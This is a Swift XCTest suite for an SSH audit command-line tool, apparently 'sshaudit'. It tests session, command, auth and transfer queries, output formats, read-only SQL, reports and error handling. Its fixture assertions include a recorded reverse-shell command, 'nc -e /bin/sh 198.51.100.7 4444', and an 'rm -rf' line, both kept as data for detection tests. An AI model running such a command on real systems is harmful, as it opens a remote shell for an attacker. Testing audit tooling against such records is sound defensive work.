import Foundation
import XCTest

/// `sshaudit query|show|report|completions` on the fixture database (QueryFixtureDatabase): every
/// filter, every format, and the answers to bad input (one line on stderr; exit 2 for usage, 1 else).
final class QueryCommandTests: XCTestCase {
    static var dir: String!
    static var db: String!

    override class func setUp() {
        dir = FileManager.default.temporaryDirectory.appending(path: "query-cli-\(UUID().uuidString)").path
        do { db = try QueryFixtureDatabase.build(in: dir) } catch { fatalError("fixture database: \(error)") }
    }

    override class func tearDown() {
        try? FileManager.default.removeItem(atPath: dir)
    }

    func run(_ args: [String], file: StaticString = #filePath, line: UInt = #line) throws -> ProcessResult {
        try runProcess(Paths.sshaudit, args)
    }

    /// `query KIND --db fixture --format json ARGS`: the ids of the rows, in order.
    func ids(_ kind: String, _ args: [String] = [], file: StaticString = #filePath, line: UInt = #line) throws -> [Int] {
        let r = try run(["query", kind, "--db", Self.db, "--format", "json"] + args)
        XCTAssertEqual(r.status, 0, "\(kind) \(args): \(r.stderr)", file: file, line: line)
        XCTAssertEqual(r.stderr, "", file: file, line: line)
        let rows = try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [[String: Any]]
        return rows?.compactMap { $0["id"] as? Int } ?? []
    }

    func assertOneLineError(_ args: [String], status: Int32, contains text: String,
                            file: StaticString = #filePath, line: UInt = #line) throws {
        let r = try run(args)
        XCTAssertEqual(r.status, status, "\(args): \(r.stderr)", file: file, line: line)
        XCTAssertEqual(r.stderr.split(separator: "\n").count, 1, "one line: \(r.stderr)", file: file, line: line)
        XCTAssertTrue(r.stderr.hasPrefix("sshaudit: "), r.stderr, file: file, line: line)
        XCTAssertTrue(r.stderr.contains(text), "\(args): \(r.stderr)", file: file, line: line)
        XCTAssertEqual(r.stdout, "", file: file, line: line)
    }

    // MARK: - Filters

    func testUserFilter() throws {
        XCTAssertEqual(try ids("sessions", ["--user", "alice"]), [1, 5])
        XCTAssertEqual(try ids("commands", ["--user", "alice"]), [1, 2, 3, 4, 5, 10])
        XCTAssertEqual(try ids("auth", ["--user", "root"]), [4, 5], "auth: the user as typed")
        XCTAssertEqual(try ids("transfers", ["--user", "carol"]), [2])
        XCTAssertEqual(try ids("sessions", ["--user", "nobody"]), [])
    }

    func testFromFilterIPv4IPv6AndCIDR() throws {
        XCTAssertEqual(try ids("sessions", ["--from", "10.1.2.3"]), [1])
        XCTAssertEqual(try ids("sessions", ["--from", "203.0.113.0/24"]), [3, 4])
        XCTAssertEqual(try ids("sessions", ["--from", "203.0.113.128/25"]), [4])
        XCTAssertEqual(try ids("sessions", ["--from", "192.0.2.0/24"]), [5], "IPv4-mapped IPv6 is IPv4")
        XCTAssertEqual(try ids("sessions", ["--from", "0.0.0.0/0"]), [1, 3, 4, 5, 6])
        XCTAssertEqual(try ids("sessions", ["--from", "2001:DB8::5"]), [2], "any spelling of the address")
        XCTAssertEqual(try ids("sessions", ["--from", "2001:db8::/32"]), [2, 7])
        XCTAssertEqual(try ids("sessions", ["--from", "::/0"]), [1, 2, 3, 4, 5, 6, 7], "IPv4 is ::ffff:0:0/96, inside ::/0")
        XCTAssertEqual(try ids("sessions", ["--from", "::ffff:0:0/96"]), [1, 3, 4, 5, 6])
        XCTAssertEqual(try ids("commands", ["--from", "2001:db8::/32"]), [6, 7, 8, 9])
        XCTAssertEqual(try ids("auth", ["--from", "203.0.113.0/24"]), [4, 5])
        XCTAssertEqual(try ids("transfers", ["--from", "10.0.0.0/8"]), [1])
        XCTAssertEqual(try ids("sessions", ["--from", "172.16.0.0/12"]), [])
    }

    func testTimeFilterAbsoluteAndRelative() throws {
        XCTAssertEqual(try ids("sessions", ["--since", "2025-03-11", "--until", "2025-03-12"]), [3, 4])
        XCTAssertEqual(try ids("sessions", ["--until", "2025-03-10T12:00"]), [1], "until excludes its instant")
        XCTAssertEqual(try ids("sessions", ["--since", "2025-03-10T12:00:00.000Z", "--until", "2025-03-10T12:00:00.001Z"]), [2])
        // Session 5 is still open: it is open in every period after its start, and comes first.
        XCTAssertEqual(try ids("sessions", ["--since", "3h"]), [5, 6, 7])
        XCTAssertEqual(try ids("sessions", ["--since", "45m"]), [5, 7])
        XCTAssertEqual(try ids("sessions", ["--since", "1d", "--until", "1h"]), [5, 6])
        XCTAssertEqual(try ids("commands", ["--since", "3h"]), [11, 12, 13])
        XCTAssertEqual(try ids("auth", ["--since", "1h"]), [10])
        XCTAssertEqual(try ids("transfers", ["--since", "3h"]), [2])
        XCTAssertEqual(try ids("commands", ["--user", "alice", "--since", "2025-03-10T10:01", "--until", "2025-03-10T10:03"]), [2, 3, 4])
        XCTAssertEqual(try ids("sessions", ["--since", "2025-03-10T11:00:00+01:00", "--until", "2025-03-10T11:00:00.001+01:00"]), [1])
    }

    func testSessionFilter() throws {
        XCTAssertEqual(try ids("sessions", ["--session", "2"]), [2])
        XCTAssertEqual(try ids("commands", ["--session", "2"]), [6, 7, 8, 9])
        XCTAssertEqual(try ids("auth", ["--session", "3"]), [4, 5])
        XCTAssertEqual(try ids("transfers", ["--session", "1"]), [1])
        XCTAssertEqual(try ids("commands", ["--session", "2", "--user", "alice"]), [])
    }

    func testFailedFilter() throws {
        XCTAssertEqual(try ids("sessions", ["--failed"]), [3, 4, 7], "never authenticated")
        XCTAssertEqual(try ids("commands", ["--failed"]), [5, 6, 7, 9], "exit status not 0, or a signal")
        XCTAssertEqual(try ids("auth", ["--failed"]), [2, 4, 5, 10], "credentials refused")
        XCTAssertEqual(try ids("auth", ["--failed", "--from", "203.0.113.0/24", "--user", "root"]), [4, 5])
    }

    func testGrepFilter() throws {
        XCTAssertEqual(try ids("commands", ["--grep", "rm -rf"]), [8], "across argv elements")
        XCTAssertEqual(try ids("commands", ["--grep", "systemctl"]), [3, 4])
        XCTAssertEqual(try ids("commands", ["--grep", "\"world\""]), [12])
        XCTAssertEqual(try ids("commands", ["--grep", "SYSTEMCTL"]), [], "case-sensitive")
        XCTAssertEqual(try ids("commands", ["--grep", "su"]), [3, 7], "short patterns too")
        XCTAssertEqual(try ids("sessions", ["--grep", "nc -e /bin/sh"]), [2], "sessions that ran it")
        XCTAssertEqual(try ids("commands", ["--grep", "-bash", "--user", "alice", "--failed"]), [], "a pattern may start with -")
        XCTAssertEqual(try ids("commands", ["--grep", "-rf"]), [8])
        XCTAssertEqual(try ids("commands", ["--grep", "-bash", "--since", "2025-03-12"]), [10, 11])
    }

    func testLimit() throws {
        XCTAssertEqual(try ids("sessions", ["--limit", "2"]), [1, 2])
        XCTAssertEqual(try ids("commands", ["--limit", "3", "--user", "bob"]), [6, 7, 8])
        XCTAssertEqual(try ids("auth", ["--limit", "1", "--failed"]), [2])
    }

    // MARK: - Formats

    /// Into a pipe, a table is aligned, one line a row, every cell whole (a long command line too).
    func testTableIsAlignedAndWholeInAPipe() throws {
        for kind in ["sessions", "commands", "auth", "transfers"] {
            let r = try run(["query", kind, "--db", Self.db])
            XCTAssertEqual(r.status, 0, r.stderr)
            let lines = r.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
            XCTAssertEqual(lines.count, try ids(kind).count + 1, "a header and one line a row:\n\(r.stdout)")
            XCTAssertTrue(lines[0].hasPrefix("ID  "), kind)
            XCTAssertFalse(r.stdout.contains("…"), "nothing cut:\n\(r.stdout)")
            // Aligned: the second column starts at the same place on every line.
            let header = String(lines[0])
            let second = header.range(of: "  ")!.upperBound
            let offset = header.distance(from: header.startIndex, to: header[second...].firstIndex { $0 != " " }!)
            for line in lines.dropFirst() {
                let chars = Array(line)
                XCTAssertTrue(chars[offset - 1] == " " && chars[offset] != " ", "\(kind): misaligned: \(line)")
            }
        }
        let commands = try run(["query", "commands", "--db", Self.db, "--session", "6"]).stdout
        let long = try XCTUnwrap(try commandLine(13))
        XCTAssertGreaterThan(long.count, 100)
        XCTAssertTrue(commands.contains(long), "the long command line whole:\n\(commands)")
        XCTAssertTrue(commands.contains("echo hello, \"world\""))
    }

    /// In a terminal too narrow for the table's cells whole (a pseudo-terminal 80 columns wide), each
    /// row is shown one field a line, every value whole: the times (before, cut to "2026-12…") and
    /// the long command line (wrapped under itself). In a wide one, the table, the last column wrapped.
    func testTableInATerminalFitsItsWidthAndCutsNoCell() throws {
        func inTerminal(columns: Int) throws -> String {
            let shell = "stty cols \(columns) rows 50; exec '\(Paths.sshaudit)' query commands --db '\(Self.db!)' --session 6"
            let r = try runProcess("/usr/bin/script", ["-qec", shell, "/dev/null"])
            XCTAssertEqual(r.status, 0, r.stderr)
            let text = r.stdout.replacingOccurrences(of: "\r\n", with: "\n")
            XCTAssertTrue(text.split(separator: "\n").allSatisfy { $0.count <= columns }, text)
            XCTAssertFalse(text.contains("…"), "nothing cut:\n\(text)")
            return text
        }
        let json = try run(["query", "commands", "--db", Self.db, "--format", "json", "--session", "6"]).stdout
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]])
        let long = try XCTUnwrap(try commandLine(13))

        let narrow = try inTerminal(columns: 80)
        let records = recordFields(narrow)
        XCTAssertEqual(records.map { $0["ID"] }, rows.map { ($0["id"] as? Int).map(String.init) }, narrow)
        XCTAssertEqual(records.map { $0["STARTED"] }, rows.map { $0["started_at"] as? String }, "every time whole:\n\(narrow)")
        XCTAssertTrue(records.contains { $0["COMMAND"] == long }, "the long command line, wrapped whole:\n\(narrow)")
        XCTAssertTrue(records.contains { $0["COMMAND"] == "echo hello, \"world\"" }, narrow)
        // No value, however padded, starts a line of its own: every row has the same fields.
        XCTAssertTrue(records.allSatisfy { Set($0.keys) == Set(records[0].keys) }, narrow)

        let wide = try inTerminal(columns: 200)
        XCTAssertTrue(wide.hasPrefix("ID  "), wide)
        XCTAssertTrue(tableCells(wide, column: "COMMAND").contains(long), wide)
    }

    /// Command `id`'s argv joined by spaces, as a table shows it.
    func commandLine(_ id: Int) throws -> String? {
        let r = try run(["query", "commands", "--db", Self.db, "--format", "json", "--session", "6"])
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [[String: Any]])
        return (rows.first { $0["id"] as? Int == id }?["argv"] as? [String])?.joined(separator: " ")
    }

    func testJSONHasTheContractKeysAndNulls() throws {
        let r = try run(["query", "sessions", "--db", Self.db, "--format", "json", "--session", "3"])
        let rows = try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as! [[String: Any]]
        for key in ["id", "sshd_pid", "user", "uid", "remote_addr", "remote_port", "local_addr", "local_port", "auth_method",
                    "key_fingerprint", "tty", "started_at", "authenticated_at", "ended_at", "command_count", "bytes_in", "bytes_out"] {
            XCTAssertTrue(rows[0].keys.contains(key), key)
        }
        XCTAssertTrue(rows[0]["user"] is NSNull)
        let commands = try JSONSerialization.jsonObject(with: Data(try run(["query", "commands", "--db", Self.db, "--format", "json",
                                                                                 "--session", "2"]).stdout.utf8)) as! [[String: Any]]
        XCTAssertEqual(commands.map { $0["argv"] as? [String] ?? [] }[2], ["rm", "-rf", "/tmp/x"])
        XCTAssertEqual(commands[3]["signal"] as? Int, 9)
        XCTAssertTrue(commands[3]["exit_code"] is NSNull)
        let transfers = try JSONSerialization.jsonObject(with: Data(try run(["query", "transfers", "--db", Self.db, "--format", "json"]).stdout.utf8)) as! [[String: Any]]
        XCTAssertEqual(Set(transfers[0].keys), ["id", "session_id", "command_id", "protocol", "path", "mode", "opened_at", "closed_at",
                                                "bytes_read", "bytes_written"])
        XCTAssertEqual(try run(["query", "sessions", "--db", Self.db, "--format", "json", "--user", "nobody"]).stdout, "[\n\n]\n")
    }

    func testJSONLinesIsOneObjectPerLine() throws {
        let r = try run(["query", "auth", "--db", Self.db, "--format", "jsonl"])
        XCTAssertEqual(r.status, 0)
        let lines = r.stdout.split(separator: "\n")
        XCTAssertEqual(lines.count, 8)
        for line in lines {
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            XCTAssertNotNil(object?["result"], String(line))
        }
        XCTAssertTrue(r.stdout.hasSuffix("}\n"))
        XCTAssertEqual(try run(["query", "auth", "--db", Self.db, "--format", "jsonl", "--user", "nobody"]).stdout, "")
    }

    func testCSVHasTheJSONKeysAndQuotes() throws {
        let r = try run(["query", "commands", "--db", Self.db, "--format", "csv", "--session", "6"])
        XCTAssertEqual(r.status, 0)
        let lines = r.stdout.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        XCTAssertEqual(lines.count, 4, r.stdout)
        XCTAssertEqual(lines[0], "argv,argv_truncated,channel_id,cwd,duration_ms,ended_at,exit_code,filename,id,parent_id,pid,ppid,recovered,session_id,signal,started_at,uid")
        XCTAssertTrue(lines[2].hasPrefix(#""[""echo"",""hello, \""world\""""]",false,,,10,"#), lines[2])
        let sessions = try run(["query", "sessions", "--db", Self.db, "--format", "csv", "--session", "3"]).stdout
        XCTAssertTrue(sessions.contains(",203.0.113.7,"), sessions)
        let auth = try run(["query", "auth", "--db", Self.db, "--format", "csv", "--session", "3"]).stdout
        XCTAssertEqual(auth.components(separatedBy: "\r\n").first,
                       "addr_mismatch,at,auth_info,ca_fingerprint,ca_key_type,cert_id,cert_serial,id,key_fingerprint,key_type,method,remote_addr,remote_port,result,session_id,submethod,user")
        XCTAssertTrue(auth.contains("\r\nfalse,2025-03-11T08:00:01.000Z,,,,,,4,"), auth)
    }

    // MARK: - SQL

    func testSQLIsReadOnly() throws {
        let r = try run(["query", "sql", "--db", Self.db, "--format", "json", "SELECT user, count(*) AS n FROM sessions WHERE user IS NOT NULL GROUP BY user ORDER BY n DESC, user"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertEqual(r.stdout, "[\n  {\"user\": \"alice\", \"n\": 2},\n  {\"user\": \"bob\", \"n\": 1},\n  {\"user\": \"carol\", \"n\": 1}\n]\n")
        let table = try run(["query", "sql", "--db", Self.db, "SELECT id, remote_addr FROM sessions WHERE id < 3"])
        XCTAssertEqual(table.stdout, "id  remote_addr\n1   10.1.2.3\n2   2001:db8::5\n")
        let csv = try run(["query", "sql", "--db", Self.db, "--format", "csv", "SELECT 'a,b' AS x, NULL AS y, 2.5 AS z"])
        XCTAssertEqual(csv.stdout, "x,y,z\r\n\"a,b\",,2.5\r\n")
        let jsonl = try run(["query", "sql", "--db", Self.db, "--format", "jsonl", "SELECT id FROM sessions WHERE id <= 2"])
        XCTAssertEqual(jsonl.stdout, "{\"id\": 1}\n{\"id\": 2}\n")
        for write in ["DELETE FROM sessions", "UPDATE commands SET argv = '[]'", "DROP TABLE sessions",
                      "INSERT INTO sessions (id, sshd_pid, sshd_start_ns, started_at) VALUES (99, 1, 1, 'x')",
                      "CREATE TABLE x (a)", "PRAGMA journal_mode = DELETE"] {
            try assertOneLineError(["query", "sql", "--db", Self.db, write], status: 1, contains: "only read-only statements are allowed")
        }
        try assertOneLineError(["query", "sql", "--db", Self.db, "SELEKT 1"], status: 1, contains: "SQL error")
        try assertOneLineError(["query", "sql", "--db", Self.db, "SELECT * FROM nowhere"], status: 1, contains: "no such table")
        try assertOneLineError(["query", "sql", "--db", Self.db, " "], status: 2, contains: "SQL statement")
        XCTAssertEqual(try ids("sessions"), [1, 2, 3, 4, 5, 6, 7], "nothing changed")
    }

    // MARK: - show

    func testShowTimelineAndCommandTree() throws {
        let r = try run(["show", "1", "--db", Self.db])
        XCTAssertEqual(r.status, 0, r.stderr)
        let out = r.stdout
        let lines = out.split(separator: "\n").map(String.init)
        XCTAssertTrue(lines.allSatisfy { $0.count <= 100 }, out)
        XCTAssertTrue(lines[0].hasPrefix("Session 1 · alice (uid 1001) · from 10.1.2.3:50001 to 192.0.2.10:22"), lines[0])
        for text in ["connected from 10.1.2.3:50001", "auth accepted publickey for alice ED25519 SHA256:alicekey",
                     "authenticated as alice (uid 1001)", "ended after 1h00m, exit 0", "Commands (5)",
                     "File transfers (1)", "/home/alice/upload.tar", "Session events (1)", "agent_forward", "/tmp/ssh-abc/agent.1"] {
            XCTAssertTrue(out.contains(text), "missing \(text):\n\(out)")
        }
        // Timeline order: connected, auth, authenticated, ended.
        let order = ["connected from", "auth accepted", "authenticated as", "ended after"].map { out.range(of: $0)!.lowerBound }
        XCTAssertEqual(order, order.sorted())
        // The tree: ls, sudo and vim under -bash; systemctl under sudo.
        func indent(_ command: String) -> Int {
            let line = lines.first { $0.hasSuffix("  " + command) }!
            let start = line.range(of: "  " + command, options: .backwards)!.upperBound
            return line.distance(from: line.startIndex, to: start) - command.count
        }
        XCTAssertEqual(indent("ls -la"), indent("-bash") + 2)
        XCTAssertEqual(indent("sudo systemctl restart nginx"), indent("-bash") + 2)
        XCTAssertEqual(indent("systemctl restart nginx"), indent("-bash") + 4)
        XCTAssertTrue(lines.contains { $0.contains("1.5s") && $0.hasSuffix("sudo systemctl restart nginx") })
        XCTAssertTrue(lines.contains { $0.contains("12ms") && $0.hasSuffix("ls -la") })
        let bob = try run(["show", "2", "--db", Self.db]).stdout
        XCTAssertTrue(bob.contains("auth failed password for bob"), bob)
        XCTAssertTrue(bob.split(separator: "\n").contains { $0.contains("sig9") && $0.hasSuffix("nc -e /bin/sh 198.51.100.7 4444") }, bob)
        let open = try run(["show", "5", "--db", Self.db]).stdout
        XCTAssertTrue(open.contains("(still open)") && open.contains("running"), open)
        let failed = try run(["show", "3", "--db", Self.db]).stdout
        XCTAssertTrue(failed.contains("auth failed password for root") && failed.contains("Commands (0)"), failed)
        XCTAssertTrue(failed.split(separator: "\n").contains { $0.contains("invalid_user") && $0.hasSuffix("admin") }, failed)
    }

    func testShowJSON() throws {
        let r = try run(["show", "1", "--db", Self.db, "--format", "json"])
        let object = try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as! [String: Any]
        XCTAssertEqual((object["session"] as? [String: Any])?["user"] as? String, "alice")
        XCTAssertEqual((object["auth"] as? [[String: Any]])?.count, 1)
        let roots = object["commands"] as! [[String: Any]]
        XCTAssertEqual(roots.count, 1)
        let children = roots[0]["children"] as! [[String: Any]]
        XCTAssertEqual(children.map { $0["id"] as? Int }, [2, 3, 5])
        XCTAssertEqual(((children[1]["children"] as? [[String: Any]])?.first?["argv"]) as? [String], ["systemctl", "restart", "nginx"])
        XCTAssertEqual((object["transfers"] as? [[String: Any]])?.first?["path"] as? String, "/home/alice/upload.tar")
        XCTAssertEqual((object["events"] as? [[String: Any]])?.first?["kind"] as? String, "agent_forward")
    }

    // MARK: - report

    func testReportMarkdown() throws {
        let r = try run(["report", "--db", Self.db, "--since", "2025-03-01", "--until", "2025-03-13"])
        XCTAssertEqual(r.status, 0, r.stderr)
        let md = r.stdout
        for text in ["# SSH audit report", "## Summary", "| Connections | 5 |", "| Logins | 3 |", "## Logins per day",
                     "| 2025-03-10 | 2 |", "## Logins per user", "| alice | 2 | 2 |", "## Failed attempts by source address",
                     "| 203.0.113.7 | 2 | 1 | 1 |", "## Top commands", "| bash | 3 |", "## Privileged commands (sudo, su)",
                     "`sudo systemctl restart nginx`", "`su -`", "## Sessions still open", "| 5 | alice |",
                     // This database was written without a recorder: the report must not pass it off as watched.
                     "## Recording coverage", "NOT WATCHED: no recorder ran in this period"] {
            XCTAssertTrue(md.contains(text), "missing \(text):\n\(md)")
        }
        let recent = try run(["report", "--db", Self.db]).stdout  // the last 7 days
        XCTAssertTrue(recent.contains("| Connections | 2 |"), recent)
        XCTAssertTrue(recent.contains("| carol | 1 | 1 |"), recent)
    }

    func testReportHTMLIsSelfContained() throws {
        let r = try run(["report", "--db", Self.db, "--since", "2025-03-01", "--format", "html"])
        XCTAssertEqual(r.status, 0, r.stderr)
        let html = r.stdout
        XCTAssertTrue(html.hasPrefix("<!DOCTYPE html>"))
        for id in ["chart-logins-per-day", "chart-failed-per-day", "chart-logins-per-user", "chart-failed-by-source", "chart-top-commands"] {
            XCTAssertTrue(html.contains("<svg id=\"\(id)\""), id)
        }
        for fetch in ["src=", "href=", "@import", "url(", "<script", "<link"] {
            XCTAssertFalse(html.contains(fetch), "the page must fetch nothing: \(fetch)")
        }
        XCTAssertTrue(html.contains("&quot;world&quot;") || !html.contains("\"world\""), "escaped")
    }

    func testReportJSON() throws {
        let r = try run(["report", "--db", Self.db, "--since", "2025-03-01", "--until", "2025-03-13", "--format", "json"])
        let object = try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as! [String: Any]
        let totals = object["totals"] as! [String: Any]
        XCTAssertEqual(totals["connections"] as? Int, 5)
        XCTAssertEqual(totals["failed_attempts"] as? Int, 3, "one per sshd Failed line: bob once, root twice")
        XCTAssertEqual(totals["privileged_commands"] as? Int, 2)
        XCTAssertEqual((object["open_sessions"] as? [[String: Any]])?.map { $0["id"] as? Int }, [5])
        let coverage = try XCTUnwrap(object["coverage"] as? [String: Any])
        XCTAssertEqual(coverage["runs"] as? Int, 0)
        XCTAssertEqual(coverage["not_recording_seconds"] as? Double, 12 * 86_400)
    }

    // MARK: - Completion scripts

    func testCompletionScriptsKnowTheCommandsAndOptions() throws {
        for shell in ["bash", "zsh", "fish"] {
            let r = try run(["completions", shell])
            XCTAssertEqual(r.status, 0, r.stderr)
            for word in ["query", "show", "report", "transfers", "sql", "grep", "from", "since", "until", "failed", "limit", "jsonl"] {
                XCTAssertTrue(r.stdout.contains(word), "\(shell) script lacks \(word)")
            }
        }
        if FileManager.default.isExecutableFile(atPath: "/bin/bash") {
            let script = Self.dir + "/completion.bash"
            try run(["completions", "bash"]).stdout.write(toFile: script, atomically: true, encoding: .utf8)
            let check = try runProcess("/bin/bash", ["-c", "source '\(script)' && complete -p sshaudit"])
            XCTAssertEqual(check.status, 0, check.stderr)
        }
        try assertOneLineError(["completions", "tcsh"], status: 2, contains: "tcsh")
    }

    // MARK: - Bad input

    func testBadInputIsOneLineWithTheRightStatus() throws {
        let db = Self.db!
        try assertOneLineError(["query", "commands", "--db", db, "--session", "999"], status: 1, contains: "no session 999")
        try assertOneLineError(["show", "999", "--db", db], status: 1, contains: "no session 999")
        try assertOneLineError(["show", "abc", "--db", db], status: 2, contains: "abc")
        for (option, value) in [("--since", "yesterday"), ("--until", "2025-13-01"), ("--since", "7x"), ("--since", "")] {
            try assertOneLineError(["query", "sessions", "--db", db, option, value], status: 2, contains: option)
        }
        try assertOneLineError(["query", "sessions", "--db", db, "--since", "1h", "--until", "2h"], status: 2, contains: "must be before")
        try assertOneLineError(["report", "--db", db, "--since", "nonsense"], status: 2, contains: "--since")
        for bad in ["10.0.0.0/33", "banana", "10.0.0", "2001:db8::/129", "::1/", "300.1.1.1"] {
            try assertOneLineError(["query", "auth", "--db", db, "--from", bad], status: 2, contains: "--from")
        }
        try assertOneLineError(["query", "commands", "--db", db, "--grep", ""], status: 2, contains: "--grep")
        try assertOneLineError(["query", "auth", "--db", db, "--grep", "x"], status: 2, contains: "--grep")
        try assertOneLineError(["query", "transfers", "--db", db, "--failed"], status: 2, contains: "--failed")
        try assertOneLineError(["query", "sessions", "--db", db, "--format", "yaml"], status: 2, contains: "yaml")
        try assertOneLineError(["report", "--db", db, "--format", "pdf"], status: 2, contains: "pdf")
        try assertOneLineError(["report", "--db", db, "--top", "0"], status: 2, contains: "--top")
        try assertOneLineError(["query", "sessions", "--db", db, "--limit=-3"], status: 2, contains: "--limit")
        try assertOneLineError(["query", "sessions", "--db", db, "--limit", "many"], status: 2, contains: "many")
    }

    func testUnreadableDatabases() throws {
        let junk = Self.dir + "/junk.db"
        try Data("not sqlite at all, but long enough to look like a header".utf8).write(to: URL(fileURLWithPath: junk))
        let empty = Self.dir + "/empty.db"
        _ = FileManager.default.createFile(atPath: empty, contents: Data())
        let cases: [(String, String)] = [
            ("/nonexistent/dir/x.db", "no database at /nonexistent/dir/x.db"),
            (Self.dir!, "cannot read \(Self.dir!): is a directory"),
            (junk, "not an sshaudit database"),
            (empty, "not an sshaudit database"),
        ]
        for (path, message) in cases {
            for args in [["query", "sessions"], ["query", "commands", "--grep", "x"], ["query", "sql", "SELECT 1"], ["show", "1"], ["report"]] {
                try assertOneLineError(args + ["--db", path], status: 1, contains: message)
            }
        }
    }
}
